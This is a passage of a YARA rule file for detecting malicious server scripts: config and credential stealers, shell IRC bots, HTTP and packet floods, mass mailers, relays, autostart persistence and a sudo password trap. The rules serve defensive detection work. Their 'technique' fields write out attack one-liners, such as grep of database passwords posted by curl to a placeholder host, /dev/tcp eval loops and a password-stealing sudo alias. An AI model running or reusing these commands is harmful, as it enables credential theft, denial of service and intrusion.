 * mysqldump and mails root that it is done. */
rule bot_config_credential_exfil : bot
{
    meta:
        description = "Config stealer: sites' wp-config.php/.env/configuration.php searched across accounts, the database passwords pulled out and sent away"
        severity = "high"
        technique = "for f in $(find /home -name wp-config.php); do grep DB_PASSWORD \"$f\"; done > /tmp/.c; curl -F f=@/tmp/.c http://x/up.php  |  glob('/home/*/public_html/wp-config.php') + preg_match DB_PASSWORD + mail('x@y', ...)"
        seen = "none,train6,train7"
    strings:
        $g1 = /\/home\d?\/\*\/[^\s'"]{0,40}(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
        $g2 = /\bfind\s{1,4}[^\n|;]{0,80}-i?name\s{1,4}['"]?(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
        $g3 = /RecursiveDirectoryIterator\s{0,4}\(\s{0,4}['"]\/(home|var\/www)/
        // a loop over the accounts, or the server's account lists, then the config's name
        $g4 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}\/(home\d?|var\/www)\/\*/
        $g5 = /\/etc\/(passwd|userdomains|trueuserdomains|localdomains)\b/
        // train7: the accounts walked by Perl's File::Find / glob, Python's os.walk / glob
        $g6 = /\b(find|glob|walk|iglob|scandir)\s{0,2}\([^\n]{0,200}['"]\/(home\d?|var\/www)\/\*?['"]/
        // (train7: or escaped in a regex, /^(wp-config\.php|...)$/)
        $gw = /wp-config\\?\.php/
        $c1 = "DB_PASS" ascii
        $c2 = "DB_PASSWORD" ascii
        $c3 = "'password'" ascii
        $c4 = /DB_\(?[A-Z_|]{0,40}PASS/
        // round 7: a Python regex DB_(?:USER|PASSWORD)
        $c5 = /DB_\(\?:[A-Z_|]{0,40}PASS/
        // train6: every DB_ key taken by a regex, or the other secrets of a .env
        $c6 = "DB_\\w" ascii
        $c7 = /\b(MAIL_PASSWORD|AWS_SECRET_ACCESS_KEY|STRIPE_SECRET(_KEY)?|SMTP_PASS(WORD)?)\b/
        // train7: a pattern naming the DB_ keys and a password on one line
        // (grep -iE "DB_|pass", /(DB_[A-Z]+|password)/, (?:PASS|USER|DB_))
        $c8 = /DB_[^\n]{0,40}\b(PASS|pass|password|PASSWORD)|\b(PASS|pass|password)\b[^\n]{0,40}DB_/
        $x1 = "api.telegram.org" ascii
        $x2 = /\bmail\s{0,4}\(\s{0,4}['"][^'"\s@]{1,40}@[\w-]{1,40}\.[\w.]{2,20}['"]/
        $x3 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,80}"|'[^'\n]{0,80}'|\S{1,80})\s{1,4}){1,4}[\w.+-]{1,40}@[\w-]{1,40}\.[\w.]{2,20}/
        $x4 = /curl_init\s{0,4}\(\s{0,4}['"]https?:\/\//
        $x5 = /\bcurl\s[^\n]{0,160}\s(-F|--form|-d|--data[\w-]{0,8}|-T|--upload-file)\s/
        $x6 = /\bwget\s[^\n]{0,120}--post-(data|file)/
        $x7 = /file_get_contents\s{0,4}\(\s{0,4}['"]https?:\/\/[^'"\n]{1,120}['"]\s{0,4}\./
        // round 7: a chat webhook; Python's POST (Request with data, requests.post)
        $x8 = /discord(app)?\.com\/api\/webhooks\//
        $x9 = /\brequests\.post\s{0,2}\(|urllib\.request\.Request\s{0,2}\([^\n]{0,200}\bdata\s{0,2}=|\bRequest\s{0,2}\(\s{0,2}[\w'"][^,\n]{0,120},\s{0,2}(json\.dumps\s{0,2}\(|[a-zA-Z_]\w{0,30}\s{0,2}[,)]|b['"])/
        // train7: PHP's POST through a stream context
        $x10 = /\bstream_context_create\s{0,2}\([^\n]{0,120}['"]method['"]\s{0,2}=>\s{0,2}['"]POST['"]/
    condition:
        filesize < 500KB and (not hs_doc_file or hs_script_ext) and
        ($g1 or $g2 or (any of ($g3, $g4, $g5, $g6) and $gw)) and any of ($c*) and any of ($x*)
}

/* A shell IRC bot: bash's /dev/tcp, ncat/nc/telnet or a fifo as the
 * connection, the IRC registration and PING answer written by echo/printf,
 * and what the channel sends run through eval / sh -c of a variable. A
 * shell notifier posts its line and quits: nothing it reads is run. */
rule bot_shell_irc_eval : bot
{
    meta:
        description = "Shell IRC bot: /dev/tcp or ncat/fifo connection, IRC registration, and channel text run with eval or sh -c"
        severity = "high"
        technique = "exec 3<>/dev/tcp/irc/6667; echo NICK x >&3; while read l <&3; do case $l in *PRIVMSG*'!x '*) eval \"${l#*!x }\" ;; esac; done"
        seen = "none"
    strings:
        $t1 = /\/dev\/tcp\/[^\/\s]{1,80}\/\d{2,5}/
        $t2 = /\b(ncat|nc|netcat|telnet|openssl\s{1,4}s_client)\s[^\n|;]{0,80}\b\d{2,5}\b/
        $t3 = "mkfifo" ascii
        $n = "NICK " ascii
        $p1 = "PRIVMSG" ascii
        $p2 = "PONG" ascii
        $x1 = /\beval\s{1,4}["']?\$\{?[A-Za-z_]/
        $x2 = /\b(sh|bash|dash|ash)\s{1,4}-c\s{1,4}["']?\$\{?[A-Za-z_]/
        $x4 = /\$\(\s{0,2}\$\{?[A-Za-z_]\w{0,30}\}?\s{0,2}\)/
        // round 8: through a function that runs its arguments: run() { $@; }
        // (literals: a regex keyed on "()" is tried all over PHP code)
        $x5 = "() { $@" ascii
        $x6 = "() { \"$@\"" ascii
        $x7 = "() { $*" ascii
        $x8 = "(){ $@" ascii
    condition:
        filesize < 200KB and not hs_doc_file and (hs_lang_shell or hs_shebang) and
        any of ($t*) and $n and $p1 and $p2 and any of ($x*)
}

/* An HTTP flood: requests sent as fast as threads (or curl_multi, or forks)
 * allow, in a loop that runs to a deadline, with a random cache-busting
 * query so that every request reaches the origin. From a web page with the
 * target in the request it is a DDoS panel's agent (high); from the command
 * line it is also what a load test does (bot_http_flood_cli, medium). */
rule bot_http_flood_request : bot
{
    meta:
        description = "HTTP flood run from a web request: target and duration from the request, curl_multi/fork/threads until a deadline, random cache-buster"
        severity = "high"
        technique = "$url = $_GET['u']; $end = time() + $_GET['t']; while (time() < $end) { curl_multi of $url . '?' . mt_rand() x50 }"
        seen = "none"
    strings:
        $d1 = /while\s{0,4}\(\s{0,4}(time|microtime)\s{0,4}\([^)]{0,10}\)\s{0,4}<=?\s{0,4}\$\w{1,30}/
        $d2 = /while\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4}>=?\s{0,4}(time|microtime)\s{0,4}\(/
        // a string ending in "?" or "?x=" joined to a random number
        $r1 = /\?\w{0,12}=?['"]\s{0,4}\.\s{0,4}(mt_rand|rand|uniqid|random_int|microtime)\s{0,4}\(/
        $c1 = "curl_multi_exec" ascii
        $c2 = "pcntl_fork" ascii
        $c3 = /\bfsockopen\s{0,4}\(/
        $q1 = "$_GET" ascii
        $q2 = "$_POST" ascii
        $q3 = "$_REQUEST" ascii
    condition:
        filesize < 300KB and not hs_doc_file and any of ($d*) and any of ($r*) and any of ($c*) and any of ($q*)
}

rule bot_http_flood_cli : bot
{
    meta:
        description = "HTTP flood script: threads hammering a target from argv with random cache-busters until a deadline (a load test looks the same)"
        severity = "medium"
        technique = "end = time.time() + secs; def hammer(): while time.time() < end: urlopen(target + '?' + str(random.randint(..))); threads x N"
        seen = "none"
    strings:
        $d1 = /while\s{1,4}time\.time\s{0,2}\(\s{0,2}\)\s{0,4}<\s{0,4}\w{1,30}/
        $d2 = /while\s{0,4}\(\s{0,4}time\s{0,4}\(\s{0,4}\)?\s{0,4}<=?\s{0,4}\$\w{1,30}/
        // round 8: or no deadline at all (threads hammering until killed)
        $d3 = /\bwhile\s{1,4}(True|1)\s{0,2}:/
        $r1 = /['"]\?['"]\s{0,4}\+\s{0,4}str\s{0,2}\(\s{0,2}random\.(randint|random|getrandbits)\s{0,2}\(/
        $r2 = /['"]\?['"]\s{0,4}\.\s{0,4}int\s{0,2}\(\s{0,2}rand\s{0,2}\(/
        $h1 = /urllib\.request\.urlopen|requests\.(get|post|head)\s{0,2}\(|http\.client\.HTTPS?Connection|LWP::UserAgent|HTTP::Tiny/
        $t1 = "threading.Thread" ascii
        $t2 = /\bfork\s{0,2}\(/
        $t3 = "ThreadPoolExecutor" ascii
        $t4 = "threads->create" ascii
        $a1 = /\bsys\.argv\s{0,2}\[/
        $a2 = "$ARGV[" ascii
    condition:
        filesize < 200KB and not hs_doc_file and (hs_lang_python or hs_lang_perl or hs_shebang) and
        any of ($d*) and any of ($r*) and $h1 and any of ($t*) and any of ($a*)
}

/* A TCP relay: listens, and for every connection opens one to a fixed far
 * end and copies bytes both ways (select or two threads). Dropped in /tmp
 * it carries a spammer's or an attacker's traffic through the host. Medium:
 * port forwarders are also admin tools. */
rule bot_tcp_relay_script : bot
{
    meta:
        description = "TCP relay script: accepts connections and forwards each to a fixed far end (a proxy hop through the host)"
        severity = "medium"
        technique = "srv.bind(LISTEN); srv.listen(); c = srv.accept(); f = socket.create_connection(FAR); select loop copying recv() of one into sendall() of the other"
        seen = "none"
    strings:
        $l1 = /\.bind\s{0,2}\(/
        $l2 = /\.listen\s{0,2}\(/
        $a = /\.accept\s{0,2}\(\s{0,2}\)/
        $o1 = /socket\.create_connection\s{0,2}\(/
        $o2 = /\.connect\s{0,2}\(\s{0,2}\(?\s{0,2}['"]?\w/
        $s1 = /select\.select\s{0,2}\(/
        $s2 = /threading\.Thread\s{0,2}\(\s{0,2}target\s{0,2}=\s{0,2}\w{1,30}\s{0,2},\s{0,2}args\s{0,2}=\s{0,2}\(\s{0,2}\w{1,30}\s{0,2},\s{0,2}\w{1,30}/
        $c = /\.sendall\s{0,2}\(\s{0,2}\w{1,30}\s{0,2}\)/
        $d = /\.recv\s{0,2}\(\s{0,2}\d{3,6}\s{0,2}\)/
        $h1 = /\bos\.setsid\s{0,2}\(|\bnohup\b|\bdaemon\s{0,2}\(|\/tmp\/|\/dev\/shm\//
    condition:
        filesize < 100KB and not hs_doc_file and hs_lang_python and all of ($l*) and $a and any of ($o*) and
        any of ($s*) and $c and $d and $h1
}

/* ---- round 7 (branch nonphp6, seen = "none"): written from the techniques,
 * on tests/eval/nonphpgen.py's variants (a fourth author style: Node.js as
 * CommonJS and ES modules, Python 3.8+ asyncio and thread pools, Perl's
 * Email::Stuffer, scapy, curl's SMTP client) and its look-alikes; no corpus
 * or held-out sample was opened. */

/* Node.js code: a node shebang, or a .js/.cjs/.mjs that loads Node's own
 * modules (fs, child_process, net, ...) by require or an ES import. A
 * browser asset does not; a page quoting the code has HTML or a fence. The
 * other rules read every .js as a web asset (hs_doc_file). */
private rule hs_node_code
{
    strings:
        $sb = /#![^\n]{0,40}\bnode\b/
        $r = /\brequire\s{0,2}\(\s{0,2}['"](node:)?(fs|os|net|tls|dgram|child_process|http|https)['"]\s{0,2}\)/
        $i = /\bfrom\s{1,4}['"]node:(fs|os|net|tls|dgram|child_process|http|https)['"]|\bimport\s{1,4}\w{1,30}\s{1,4}from\s{1,4}['"](fs|os|net|tls|dgram|child_process|http|https)['"]/
        $h1 = "<html" ascii
        $h2 = "```" ascii
        $h3 = "<script" ascii
    condition:
        $sb at 0 or (extension matches /^(js|cjs|mjs)$/ and ($r or $i) and not any of ($h*))
}

rule bot_node_fetch_eval : bot
{
    meta:
        description = "Node.js download-and-run: code fetched over HTTP(S) and run with eval, new Function or vm"
        severity = "high"
        technique = "http.get(URL, r => { r.on('data', c => b += c); r.on('end', () => eval(b)) }); new Function('require', await (await fetch(u)).text())(require)"
        seen = "none"
    strings:
        $g = /\bhttps?\.(get|request)\s{0,2}\(|require\s{0,2}\(\s{0,2}['"](node:)?https?['"]\s{0,2}\)\s{0,2}\.(get|request)\s{0,2}\(|\b(fetch|axios\.get|got)\s{0,2}\(\s{0,2}['"`]?(https?:|[a-zA-Z_$])/
        // the answer run: eval(var), new Function(.., var)(..), vm.runInThisContext(var)
        $e = /\beval\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\)|\bnew\s{1,4}Function\s{0,2}\(([^()\n]{0,60},)?\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\)\s{0,2}\(|\bvm\.runIn(This|New)?Context\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}[,)]/
    condition:
        filesize < 1MB and hs_node_code and
        for any i in (1..#g) : ( $e in (@g[i] .. @g[i] + 600) )
}

rule bot_node_list_mailer : bot mailer
{
    meta:
        description = "Node.js list mailer: a file's lines, one nodemailer message per line"
        severity = "medium"
        technique = "fs.readFileSync(list).split('\\n') + for (const to of list) transport.sendMail({ to, subject, html })"
        seen = "none"
    strings:
        $nm = /require\s{0,2}\(\s{0,2}['"]nodemailer['"]\s{0,2}\)|from\s{1,4}['"]nodemailer['"]/
        $rf = /readFileSync\s{0,2}\([^)\n]{0,120}\)\s{0,2}(\.toString\s{0,2}\(\s{0,2}\)\s{0,2})?\.split\s{0,2}\(/
        $lp = /for \((const|let|var) [a-zA-Z_$][\w$]{0,30} of |\.(map|forEach)\((async )?\(?[a-zA-Z_$][\w$]{0,30}\)? ?=>/
        // round 8: the file read line by line: readline.createInterface({ input: fs.createReadStream(list) })
        $rl = "createInterface(" ascii
        $lp2 = /\.on\s{0,2}\(\s{0,2}['"]line['"]\s{0,2},\s{0,2}(async\s{1,4})?(function\s{0,2})?\(?\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\)?/
        $sm = /\.sendMail\s{0,2}\(/
        // the recipient: the loop's variable (shorthand `to,` or `to: x`), in the
        // sendMail call's object (keyed on sendMail: "to" alone is in every file)
        // (round 8: also to: addr.trim())
        $to = /\.sendMail\s{0,2}\(\s{0,2}\{[^}]{0,160}[{,]\s{0,4}to\s{0,2}(:\s{0,2}[a-zA-Z_$][\w$]{0,30}(\.\w{1,12}\(\s{0,2}\))?\s{0,2})?[,}]/
    condition:
        filesize < 1MB and $nm and (
            $rf and for any i in (1..#lp) : (
                for any j in (1..#sm) : ( @sm[j] > @lp[i] and @sm[j] < @lp[i] + 500 and
                    for any k in (1..#to) : ( @to[k] == @sm[j] ) ) )
            or $rl and for any i in (1..#lp2) : (
                for any j in (1..#sm) : ( @sm[j] > @lp2[i] and @sm[j] < @lp2[i] + 500 and
                    for any k in (1..#to) : ( @to[k] == @sm[j] ) ) ) )
}

/* The sender is a function the list is handed to: a pool maps it over the
 * addresses (`pool.map(send_one, targets)`), or the loop over the file's
 * lines calls it with the line (`send(line.strip(), i)`); the message and
 * its recipient are built in the function, so bot_smtp_spam_loop_script sees
 * no recipient inside a loop. A newsletter mails its subscribers from a
 * query, a notice goes to each user through a plain helper; a list file
 * plus two campaign signs (rotated relays with their logins, randomised
 * subjects, an HTML letter, pauses) is a campaign. */
rule bot_smtp_sender_helper_loop : bot mailer
{
    meta:
        description = "Python mass mailer: a send function mapped by a pool over, or called per line of, an address file, with campaign signs"
        severity = "high"
        technique = "targets = [l.strip() for l in open(argv[1])]; def send_one(to): msg['To'] = to; smtplib.SMTP(...).sendmail(..); ThreadPoolExecutor().map(send_one, targets) | for i, line in enumerate(open(f)): send(line.strip(), i)"
        seen = "none"
    strings:
        $sl = "smtplib" ascii
        $def = /\ndef\s{1,4}[a-zA-Z_]\w{0,40}\s{0,2}\(\s{0,2}[a-z_]\w{0,30}\s{0,2}(,[^)\n]{0,60})?\)\s{0,2}:/
        $snd = /\.(sendmail|send_message)\s{0,2}\(/
        $pm1 = /\.(map|imap_unordered|imap|submit)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,40}\s{0,2},\s{0,2}[a-zA-Z_]/
        $pm2 = /\b(ThreadPoolExecutor|ProcessPoolExecutor|multiprocessing|Pool\s{0,2}\()/
        $f1 = /\bin\s{1,4}(enumerate\s{0,2}\(\s{0,2})?open\s{0,2}\(|\bopen\s{0,2}\(\s{0,2}sys\.argv|\.readlines\s{0,2}\(|\.read\s{0,2}\(\s{0,2}\)\s{0,2}\.split|\bwith\s{1,4}open\s{0,2}\(\s{0,2}['"][^'"\n]{1,60}\.(txt|csv|lst|list)['"]/
        // the loop over the lines, and a call with the stripped line as its first argument
        // (keyed on "in open(" and ".strip()": a regex on an indented call is tried at
        // every line of every PHP file)
        $lp = /in (enumerate\()?open\(|in enumerate\(f|in sys\.stdin/
        $call = /[a-z_]\w{0,40}\(\s{0,2}[a-z_]\w{0,30}\.strip\(\)\s{0,2}[,)]/
        $k1 = /\brandom\.(choice|randint|shuffle|sample)\b/
        $k2 = /\bitertools\.cycle\s{0,2}\(|\.split\s{0,2}\(\s{0,2}['"][|:]['"]\s{0,2}\)/
        $k3 = /MIMEText\s{0,2}\([^\n]{0,200}['"]html['"]|subtype\s{0,2}=\s{0,2}['"]html['"]/
        $k4 = /\.login\s{0,2}\(\s{0,2}[a-z_]\w{0,30}\s{0,2},/
        $k5 = /X-Mailer|\btime\.sleep\b/
    condition:
        filesize < 1MB and hs_lang_python and not hs_doc_file and $sl and $f1 and
        (($pm1 and $pm2) or for any i in (1..#lp) : ( $call in (@lp[i] .. @lp[i] + 300) )) and
        for any i in (1..#def) : ( $snd in (@def[i] .. @def[i] + 1500) ) and 2 of ($k*)
}

rule bot_packet_flood_script : bot
{
    meta:
        description = "Packet flooder: scapy sending forged SYN or random-port packets in a loop, or Node dgram datagrams until a deadline, at a target from argv"
        severity = "high"
        technique = "send(IP(dst=argv[1])/TCP(sport=RandShort(), flags='S'), loop=1); dgram.createSocket('udp4') + s.send(buf, port, host) until Date.now() + secs*1000"
        seen = "none"
    strings:
        $sc = /\b(from|import)\s{1,4}scapy\b/
        $ss = /\bsendp?\s{0,2}\(\s{0,2}(IP|IPv6|Ether)\s{0,2}\(/
        $sv = /\bsendp?\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2}[,)]/
        $lo = /\bloop\s{0,2}=\s{0,2}(1|True)\b|\bwhile\s{1,4}(True|1)\s{0,2}:/
        $fk = /\bflags\s{0,2}=\s{0,2}['"]S['"]|\bRand(Short|IP|Int|Num)\s{0,2}\(/
        $av = /\bsys\.argv\b|\bargparse\b|\binput\s{0,2}\(/
        $dg = /\bdgram\.createSocket\s{0,2}\(/
        $ds = /\.send\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2},/
        $dl = /\bDate\.now\s{0,2}\(\s{0,2}\)\s{0,2}\+/
        $na = "process.argv" ascii
        // a metrics agent sends on a timer
        $iv = "setInterval(" ascii
    condition:
        filesize < 1MB and (
            (hs_lang_python and not hs_doc_file and $sc and ($ss or $sv) and $lo and $fk and $av) or
            (hs_node_code and $dg and $ds and $dl and $na and not $iv))
}

rule bot_slow_http_script : bot
{
    meta:
        description = "Slow-HTTP (slowloris-like) attack script: many sockets opened with an unfinished request, kept alive by sending one more header line at a time"
        severity = "medium"
        technique = "s.send(b'GET /?%d HTTP/1.1\\r\\n'); loop: s.send(b'X-a: %d\\r\\n' % random) + sleep, sockets reopened"
        seen = "none"
    strings:
        $get = /GET \/[^\n'"]{0,30} HTTP\/1\.[01]\\r\\n/
        $ka = /\.send(all)?\s{0,2}\(\s{0,2}b?['"]X-[A-Za-z-]{1,20}:\s{0,2}(%[ds]|\{)/
        $ka2 = /\bprint\s{1,4}\$\w{1,30}\s{1,4}["']X-[A-Za-z-]{1,20}:\s{0,2}\$/
        $sl = /\b(time\.)?sleep\s{0,2}\(?/
    condition:
        filesize < 1MB and not hs_doc_file and (hs_lang_python or hs_lang_perl) and
        $get and ($ka or $ka2) and $sl
}

rule bot_sms_blaster_script : bot
{
    meta:
        description = "SMS blaster script: one SMS-provider API call per number of a file"
        severity = "medium"
        technique = "for num in open(sys.argv[1]): requests.post('https://api.twilio.com/.../Messages.json', data={'To': num, ..}); Node: readFileSync(numbers).split + axios.post('https://rest.nexmo.com/sms/json', { to })"
        seen = "none"
    strings:
        // (literal-keyed: "in open(", "for (const ", "read ")
        $lp = /\sin\s{1,4}(open\s{0,2}\(|[a-z_]\w{0,30}\.readlines\s{0,2}\(|csv\.reader\s{0,2}\()|for \((const|let|var) [a-zA-Z_$][\w$]{0,30} of |while (IFS= )?read (-r )?[a-zA-Z_]/
        $rf = /readFileSync\s{0,2}\([^)\n]{0,120}\)\s{0,2}(\.toString\s{0,2}\(\s{0,2}\)\s{0,2})?\.split\s{0,2}\(|\bopen\s{0,2}\(|\bdone\s{0,2}<\s{0,2}\S/
        // the providers' message endpoints (literals: a case-free "sms" is in every
        // file that names a phone plugin)
        $api = /\/Messages\.json\b|\/sms\/(json|send)\b|api\.twilio\.com|rest\.nexmo\.com|api\.nexmo\.com|api\.vonage\.com|api\.plivo\.com|rest\.messagebird\.com|api\.textlocal\.in/
    condition:
        filesize < 1MB and not (hs_doc_file and not hs_node_code) and
        (hs_lang_python or hs_lang_shell or hs_node_code) and $rf and
        for any i in (1..#lp) : ( $api in (@lp[i] .. @lp[i] + 700) )
}

rule bot_node_socks_server : bot
{
    meta:
        description = "Node.js SOCKS5 server: answers the SOCKS handshake and pipes each client to the host it asks for"
        severity = "medium"
        technique = "net.createServer(c => { c.write(Buffer.from([5, 0])); .. net.connect(port, host, () => c.pipe(up).pipe(c)) }).listen(1080)"
        seen = "none"
    strings:
        $cs = /\bnet\.createServer\s{0,2}\(/
        $v5 = /Buffer\.from\s{0,2}\(\s{0,2}\[\s{0,2}(5|0x0?5)\s{0,2},\s{0,2}(0|0x0?0)\b/
        $cn = /\bnet\.(connect|createConnection)\s{0,2}\(/
        $pp = /\.pipe\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\)\s{0,2}\.pipe\s{0,2}\(|\.pipe\s{0,2}\(/
    condition:
        filesize < 1MB and hs_node_code and $cs and $v5 and $cn and $pp
}

rule bot_async_relay_script : bot
{
    meta:
        description = "Python asyncio TCP relay that detaches: accepts, connects to a far end and copies both ways"
        severity = "medium"
        technique = "asyncio.start_server(handle, '0.0.0.0', P) + asyncio.open_connection(FAR) + gather(pipe(a, b), pipe(b, a)) after os.fork()/os.setsid()"
        seen = "none"
    strings:
        $ss = /\basyncio\.start_server\s{0,2}\(/
        $oc = /\basyncio\.open_connection\s{0,2}\(/
        $rd = /await\s{1,4}[a-z_]\w{0,20}\.read\s{0,2}\(\s{0,2}\d{3,6}\s{0,2}\)/
        $ga = /\bgather\s{0,2}\(/
        $h1 = /\bos\.(setsid|fork|daemon)\s{0,2}\(|\bnohup\b|\/tmp\/|\/dev\/shm\/|\bdaemon\s{0,2}=\s{0,2}True\b/
    condition:
        filesize < 200KB and not hs_doc_file and hs_lang_python and all of them
}

/* Credentials taken whole: the account's (or every account's) keys, cloud
 * and package-registry tokens, database client configs, and the lot sent
 * out by a POST, a chat webhook or a Telegram bot. A backup script copies
 * the same files to its own server with curl -T, rclone or scp: no match. */
rule bot_credential_files_exfil : bot
{
    meta:
        description = "Credential stealer script: key and token files (~/.ssh/id_*, ~/.aws/credentials, ~/.npmrc, .git-credentials, wp-config.php ...) read and posted out"
        severity = "high"
        technique = "for f in ['.npmrc', '.aws/credentials', '.ssh/id_rsa']: read + https.request POST / requests.post / discord webhook / curl -F document=@x api.telegram.org"
        seen = "none,train9"
    strings:
        // a private key (not id_rsa.pub, which setup scripts upload to a forge on purpose)
        $c1 = /\.ssh\/(id_[a-z0-9]{2,10}['"\s),;]|id_\*|\*)|\/home\d?\/\*\/\.ssh\b/
        $c2 = ".aws/credentials" ascii
        $c3 = ".npmrc" ascii
        $c4 = ".git-credentials" ascii
        $c5 = ".my.cnf" ascii
        $c6 = ".pgpass" ascii
        $c7 = ".docker/config.json" ascii
        $c8 = /\/home\d?\/\*\/[^\s'"]{0,40}(wp-config\.php|\.env\b)/
        // the whole environment serialised ("env: process.env" alone is how every
        // spawn passes it on: a release script reading ~/.npmrc was high)
        // (train9) a walk over every home with a key pattern inside: for d in /home/* /root
        $c10 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}\/home\d?\/\*[^\n]{0,40}\n[^\n]{0,200}\.ssh\/id_/
        $c9 = /\bJSON\.stringify\s{0,2}\([^\n]{0,60}process\.env\b|\bjson\.dumps\s{0,2}\(\s{0,2}dict\s{0,2}\(\s{0,2}os\.environ\s{0,2}\)/
        $x1 = "api.telegram.org" ascii
        $x2 = /discord(app)?\.com\/api\/webhooks\/|hooks\.slack\.com\/services\//
        $x3 = /\bcurl\s[^\n]{0,160}\s(-F|--form|-d|--data[\w-]{0,8})\s/
        $x4 = /\brequests\.post\s{0,2}\(|urllib\.request\.Request\s{0,2}\([^\n]{0,200}\bdata\s{0,2}=/
        $x5 = /\bhttps?\.request\s{0,2}\(\s{0,2}\{[^}]{0,200}method\s{0,2}:\s{0,2}['"]POST['"]/
        $x6 = /\bfetch\s{0,2}\([^\n]{0,200}method\s{0,2}:\s{0,2}['"]POST['"]/
        $x7 = /\$ua\s{0,2}->\s{0,2}post\s{0,2}\(|\bwget\s[^\n]{0,120}--post-(data|file)/
    condition:
        filesize < 500KB and (hs_node_code or ((not hs_doc_file or hs_script_ext) and
            (hs_lang_python or hs_lang_shell or hs_lang_perl))) and
        2 of ($c*) and any of ($x*)
}

rule bot_desktop_autostart_hidden : bot
{
    meta:
        description = "XDG autostart entry written for a hidden, temp-dir or fetched program (the desktop session starts it at every login)"
        severity = "high"
        technique = "~/.config/autostart/x.desktop with Exec=sh -c \"~/.local/bin/.x &\" / Exec=/tmp/.u, often Hidden=true"
        seen = "none"
    strings:
        $d = /\.config\/autostart\b|['"]autostart['"]/
        $e = /Exec\s{0,2}=[^\n]{0,160}(\/\.[\w-]{1,30}([\s"'&;]|\\n)|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\b(curl|wget)\s)/
    condition:
        filesize < 500KB and not hs_doc_file and (hs_lang_shell or hs_lang_python or hs_lang_perl or hs_shebang) and $d and $e
}

rule bot_sudo_alias_trap : bot
{
    meta:
        description = "sudo password trap planted in a shell start-up file: an alias or function named sudo that reads the password silently and stores or sends it"
        severity = "high"
        technique = "alias sudo='_s(){ read -rsp \"[sudo] password for $USER: \" p; echo \"$p\" >> ~/.cache/.p; curl -d \"p=$p\" URL; echo \"$p\" | command sudo -S \"$@\"; }; _s'"
        seen = "none"
    strings:
        // keyed on the sudo definition ("alias sudo=", "sudo() {"; a regex on
        // "function" is tried in every PHP file): the read, the store or send and the
        // real sudo follow it on the same line (a function over several lines is not seen)
        $r1 = /alias sudo=[^\n]{0,300}\bread\s{1,4}-[a-zA-Z]{0,4}s[a-zA-Z]{0,4}\s/
        $x1 = /alias sudo=[^\n]{0,500}(\b(curl|wget|nc)\s[^\n]{0,120}\$\{?\w|>>\s{0,2}["']?[~$\/])/
        $r2 = /sudo\(\) ?\{[^\n]{0,300}\bread\s{1,4}-[a-zA-Z]{0,4}s[a-zA-Z]{0,4}\s/
        $x2 = /sudo\(\) ?\{[^\n]{0,500}(\b(curl|wget|nc)\s[^\n]{0,120}\$\{?\w|>>\s{0,2}["']?[~$\/])/
        $s = "sudo -S" ascii
    condition:
        filesize < 500KB and $s and (($r1 and $x1) or ($r2 and $x2))
}

/* An HTTP flood dressed as browsers: threads hitting a target from argv until
 * a deadline, each request with a random cache-buster and a User-Agent drawn
 * from a list. A load test sends its own agent name (bot_http_flood_cli,
 * medium, reads the undisguised shape). */
rule bot_http_flood_spoofed : bot
{
    meta:
        description = "HTTP flood script: threads request a target from argv until a deadline with random cache-busters and User-Agents rotated from a list"
        severity = "high"
        technique = "stop = time.time() + int(argv[2]); def hit(): while time.time() < stop: urlopen(Request('%s?%d' % (url, randint()), headers={'User-Agent': random.choice(UAS)})); 500 threads"
        seen = "none"
    strings:
        $d = /\bwhile\s{1,4}time\.time\s{0,2}\(\s{0,2}\)\s{0,4}<\s{0,4}[a-zA-Z_]\w{0,30}/
        $cb1 = /\?[^'"\n]{0,20}%[ds][^'"\n]{0,20}['"]\s{0,2}%\s{0,2}\([^\n]{0,60}\brandom\.(randint|random|getrandbits|choice)\b/
        $cb2 = /['"]\?['"]\s{0,4}\+\s{0,4}str\s{0,2}\(\s{0,2}random\.|\?\{random\.(randint|random|getrandbits)\b/
        $ua = /['"]User-Agent['"]\s{0,2}:\s{0,2}random\.choice\s{0,2}\(/
        $th = /threading\.Thread\s{0,2}\(\s{0,2}target\s{0,2}=/
        $rg = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}range\s{0,2}\(/
        $av = /\bsys\.argv\s{0,2}\[/
        $h = /urllib\.request\.(urlopen|Request)|requests\.(get|post|head)\s{0,2}\(|http\.client\.HTTPS?Connection/
    condition:
        filesize < 200KB and not hs_doc_file and hs_lang_python and
        $d and any of ($cb*) and $ua and $th and $rg and $av and $h
}

/* A proxy that hides: a SOCKS server or TCP relay that forks into the
 * background and starts a new session, saved under a hidden name or in a
 * hidden directory (the X11/ICE socket directories, where no script
 * belongs; `in_hidden_dir`, not `filepath`, which would turn off the reuse
 * of verdicts for identical copies). A test SOCKS server
 * in a project tree does not detach and has an ordinary name. */
rule bot_hidden_proxy_daemon : bot
{
    meta:
        description = "SOCKS server or TCP relay script that daemonizes itself and lives under a hidden name or in a hidden directory (/tmp/.X11-unix...)"
        severity = "high"
        technique = "if os.fork(): os._exit(0); os.setsid(); c.sendall(b'\\x05\\x00') ...; file /tmp/.ICE-unix/.8631e"
        seen = "none"
    strings:
        $v = /\\x05\\x00|\\x05\\x01\\x00|\\x00\\x5a|\\x00Z/
        $a = /\.accept\s{0,2}\(\s{0,2}\)|->\s{0,2}accept\b|\baccept\s{0,2}\(/
        $o = /\bcreate_connection\s{0,2}\(|\.connect\s{0,2}\(|IO::Socket::INET\s{0,2}->\s{0,2}new\s{0,2}\(\s{0,2}PeerAddr/
        $r = /\.sendall\s{0,2}\(\s{0,2}\w{1,30}\s{0,2}\)|\bsyswrite\s{0,2}\(/
